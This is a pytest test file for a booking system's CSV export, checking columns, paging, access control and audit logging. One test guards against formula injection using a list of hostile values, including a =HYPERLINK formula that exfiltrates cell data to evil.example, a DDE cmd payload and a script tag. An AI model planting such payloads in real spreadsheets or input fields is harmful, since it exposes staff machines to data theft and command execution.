"""The bookings of a show as CSV: whole, in pages, for its own staff, and without formulas."""

import csv
import io
from collections.abc import Awaitable, Callable
from typing import Any

import httpx
import pytest

from holdfast.booking import export_routes
from holdfast.engine import Engine
from tests.api.people import another_house, signed_in

pytestmark = pytest.mark.anyio

Show = Callable[..., Awaitable[dict[str, Any]]]
AREAS = [
    {"name": "Stalls", "kind": "seated", "rows": [{"label": row, "seats": 6} for row in "AB"]},
    {"name": "Yard", "kind": "standing", "capacity": 50},
]
TIERS = [{"name": "Seat", "area": "Stalls", "amount": 1250}, {"name": "Stand", "area": "Yard", "amount": 0}]
HOSTILE = [
    "=1+1", "+49 170 1234567", "-1", "@SUM(A1)", '=HYPERLINK("http://evil.example/?"&A1,"x")', "＝1+1", "Anna;=1+1",
    'Anna",=1+1', "=cmd|' /C calc'!A0", "<script>alert(1)</script>", "\u200b=1",
]  # fmt: skip


def read(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


async def book(caller: httpx.AsyncClient, show: dict[str, Any], **wish: Any) -> dict[str, Any]:
    answer = await caller.post(f"/v1/shows/{show['id']}/bookings", json=wish)
    assert answer.status_code == 201, answer.text
    made: dict[str, Any] = answer.json()
    return made


async def test_a_line_for_each_booking(
    owner: httpx.AsyncClient, client: httpx.AsyncClient, a_show: Show
) -> None:
    show = await a_show(name="Größe; 1", areas=AREAS, tiers=TIERS)
    seats = await book(
        client, show, seats=["A-1", "A-2"], customer={"email": "anna@example.org", "name": "Anna Müller"}
    )
    yard = await book(client, show, quantity=3, area="Yard", confirm=True)
    answer = await owner.get(f"/v1/shows/{show['id']}/bookings.csv")
    newest, oldest = read(answer)
    assert oldest == {
        "reference": seats["reference"], "status": "PENDING", "reason": "", "places": "Stalls A-1, Stalls A-2",
        "quantity": "2", "total": "25.00", "currency": show["currency"], "email": "anna@example.org",
        "name": "Anna Müller", "created": seats["created_at"], "confirmed": "",
    }  # fmt: skip
    assert (newest["places"], newest["total"], newest["confirmed"]) == (
        "3 Yard",
        "0.00",
        yard["confirmed_at"],
    )
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["content-disposition"] == (
        "attachment; filename=\"bookings_Gr_e_1.csv\"; filename*=UTF-8''bookings%20Gr%C3%B6%C3%9Fe%3B%201.csv"
    )
    (only,) = read(await owner.get(f"/v1/shows/{show['id']}/bookings.csv", params={"status": "PENDING"}))
    assert only == oldest


async def test_whole_units_where_a_currency_has_no_others(
    owner: httpx.AsyncClient, client: httpx.AsyncClient, a_show: Show
) -> None:
    show = await a_show(areas=AREAS, tiers=TIERS, currency="JPY")
    await book(client, show, seats=["A-1"])
    (line,) = read(await owner.get(f"/v1/shows/{show['id']}/bookings.csv"))
    assert (line["total"], line["currency"]) == ("1250", "JPY")


async def test_pages_leave_nothing_out(
    owner: httpx.AsyncClient, client: httpx.AsyncClient, a_show: Show, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_routes, "EXPORT_PAGE", 2)
    show = await a_show()
    made = [(await book(client, show, quantity=1))["reference"] for _ in range(5)]
    lines = read(await owner.get(f"/v1/shows/{show['id']}/bookings.csv"))
    assert [line["reference"] for line in lines] == made[::-1]


async def test_a_show_without_bookings_has_a_heading(owner: httpx.AsyncClient, a_show: Show) -> None:
    show = await a_show()
    answer = await owner.get(f"/v1/shows/{show['id']}/bookings.csv")
    assert answer.content.decode("utf-8-sig") == ",".join(export_routes.COLUMNS) + "\r\n"


@pytest.mark.parametrize("name", HOSTILE)
async def test_names_of_buyers_are_no_formulas(
    owner: httpx.AsyncClient, client: httpx.AsyncClient, a_show: Show, name: str
) -> None:
    show = await a_show(areas=[{"name": "=A", "kind": "standing", "capacity": 9}])
    await book(client, show, quantity=1, customer={"email": "=1+1@example.org", "name": name})
    answer = await owner.get(f"/v1/shows/{show['id']}/bookings.csv")
    (line,) = read(answer)
    assert line["name"].replace("'", "") == name.replace("'", "")
    assert line["email"] == "'=1+1@example.org"
    for separator in ",;\t":
        for row in csv.reader(
            io.StringIO(answer.content.decode("utf-8-sig"), newline=""), delimiter=separator
        ):
            assert [cell for cell in row if cell.strip(" \u200b")[:1] in {"=", "+", "-", "@", "＝"}] == []


async def test_only_its_own_staff_who_may_read_bookings_get_it(
    engine: Engine, client: httpx.AsyncClient, a_show: Show
) -> None:
    show = await a_show()
    path = f"/v1/shows/{show['id']}/bookings.csv"
    assert (await client.get(path)).status_code == 401
    async with signed_in(engine, "door") as door:
        assert (await door.get(path)).status_code == 403
    async with signed_in(engine, "viewer") as viewer:
        assert (await viewer.get(path)).status_code == 200
    async with signed_in(engine, "owner", await another_house(engine)) as stranger:
        refused = await stranger.get(path)
    assert (refused.status_code, refused.json()["code"]) == (404, "show_not_found")


async def test_an_export_leaves_one_entry(
    engine: Engine, owner: httpx.AsyncClient, client: httpx.AsyncClient, a_show: Show
) -> None:
    """Names and addresses leave the house with it, so who took them, and how many, must be found later."""
    show = await a_show(areas=AREAS, tiers=TIERS)
    for _ in range(3):
        await book(client, show, quantity=1, area="Yard", confirm=True)
    await book(client, show, quantity=1, area="Yard")
    for query in ("", "?status=PENDING"):
        read(await owner.get(f"/v1/shows/{show['id']}/bookings.csv{query}"))
    async with signed_in(engine, "owner", await another_house(engine)) as stranger:
        assert (await stranger.get(f"/v1/shows/{show['id']}/bookings.csv")).status_code == 404
    entries = await engine.db.rows(
        "select actor_kind, show_id::text, after from audit where action = 'bookings.exported' order by entry_id"
    )
    assert [tuple(entry) for entry in entries] == [
        ("person", show["id"], {"bookings": 4, "status": None}),
        ("person", show["id"], {"bookings": 1, "status": "PENDING"}),
    ]
